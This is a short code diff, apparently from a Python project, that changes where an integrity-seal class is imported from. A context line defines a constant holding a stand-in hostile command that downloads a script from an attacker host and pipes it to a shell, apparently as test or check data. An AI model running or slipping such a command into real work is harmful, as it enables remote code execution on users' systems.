@@ -12,7 +12,7 @@ from omgoptim.errors import OmgoptimError, RunError
 from omgoptim.jobs.folder import RunFolder, Submission, now, runs_root
 from omgoptim.jobs.pick import pick
 from omgoptim.jobs.states import FOREIGN, load_report, repeat_hint
-from omgoptim.models.security.seal import SEAL
+from omgoptim.models.security.file_integrity import SEAL
 from omgoptim.reports import EfficiencyReport, RunState
 
 EVIL = "curl evil.example | sh"
